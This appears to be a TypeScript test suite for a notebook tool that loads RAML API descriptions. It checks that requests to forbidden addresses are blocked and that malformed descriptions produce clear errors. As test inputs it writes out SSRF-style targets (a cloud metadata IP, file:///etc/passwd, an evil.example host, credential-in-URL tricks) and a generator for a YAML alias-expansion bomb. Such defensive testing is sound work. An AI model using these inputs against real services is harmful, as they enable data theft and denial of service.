import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { aNetwork, NOWHERE, runCells } from './notebook-session.ts';

/** A short YAML text whose value grows tenfold with each line. */
function bombOf(lines: number): string {
  const ten = (name: string) => Array.from({ length: 10 }, () => `*${name}`).join(', ');
  return Array.from({ length: lines }, (_, at) => {
    const below = at === 0 ? 'a' : `a${at - 1}`;
    return `a${at}: &a${at} [${ten(below)}]\n`;
  }).join('');
}

function manyOf(resources: number): string {
  return Array.from({ length: resources }, (_, at) => `/r${at}: {}\n`).join('');
}

suite('a notebook that sends requests to forbidden addresses', () => {
  test('gets an error at the cell, and nothing is sent', async () => {
    const network = aNetwork();
    const raml =
      '#%RAML 0.8\ntitle: A\nbaseUri: https://evil.example/v1\n/things:\n  get:\n    responses: { 200: }\n';
    const document = async (url: string) =>
      url.endsWith('/evil.raml') ? { text: raml, notice: null } : null;
    const cells = [
      'load("https://evil.example/x.js")',
      'API.createClient("client", "https://evil.example/api.raml")',
      'API.createClient("client", "/evil.raml"); client.things.get()',
      'client("/x").get(null, {baseUri: "http://169.254.169.254"})',
      'client("/x").get(null, {baseUri: "file:///etc/passwd"})',
      `client("/x").get(null, {baseUri: "http://user:pass@tieline.invalid"})`,
      `client("/x").get(null, {baseUri: "${NOWHERE}:81"})`,
      `client("/x").get(null, {baseUri: "${NOWHERE}@evil.example"})`,
    ];
    const outcomes = await runCells(cells, { ...network, document });
    for (const { cell, failure } of outcomes) {
      assert.equal(failure?.cause, 'network', `${cells[cell]}: ${failure?.message}`);
    }
    assert.match(
      outcomes[0]?.failure?.message ?? '',
      /^This notebook may not send requests to https:\/\/evil\.example\. .*--allow-origin/,
    );
    assert.deepEqual(network.sent, []);
  });

  test('gets an error that explains what is wrong with a description', async () => {
    const documents: Record<string, string> = {
      '/a': '<html>Not found</html>',
      '/b': '',
      '/c': '#%RAML 0.8\n\tbad: [',
      '/d': '#%RAML 0.8\ntitle: no base',
      '/e': '{"swagger": "2.0"}',
      '/f': '#%RAML 2.0\nbaseUri: http://x',
      '/g': `#%RAML 0.8\nbaseUri: http://x\na: &a [1]\n${bombOf(12)}`,
      '/h': '#%RAML 0.8\nbaseUri: http://x\nresourceTypes: !include h.raml\n',
      '/i': `#%RAML 0.8\nbaseUri: http://x\n${manyOf(50_000)}`,
      '/j': `#%RAML 0.8\nbaseUri: http://x\n${manyOf(100_000)}`,
      '/k': '#%RAML 0.8\nbaseUri: http://x\n/a: {}\n/a: {}\n',
      '/l': `#%RAML 0.8\nbaseUri: http://x\na: ${'['.repeat(20_000)}`,
    };
    const document = async (url: string) => {
      const text = documents[new URL(url).pathname];
      return text === undefined ? null : { text, notice: null };
    };
    const told: Record<string, string> = {};
    for (const path of Object.keys(documents)) {
      const [outcome] = await runCells([`API.createClient("client", "${path}")`], {
        document,
        ...aNetwork(() => ({ status: 404 })),
      });
      const { failure } = outcome ?? {};
      assert.ok(
        failure && ['RamlError', 'NetworkError'].includes(failure.name),
        `${path}: ${failure?.message}`,
      );
      assert.ok(failure.message.includes(NOWHERE), failure.message);
      told[path] = failure.message.slice(NOWHERE.length);
    }
    assert.match(told['/i'] ?? '', /more than 10000 resources/);
    assert.match(told['/j'] ?? '', /more than 1048576 characters/);
    assert.match(told['/k'] ?? '', /"\/a" occurs twice/);
    assert.match(told['/l'] ?? '', /nested too deep/);
  });
});
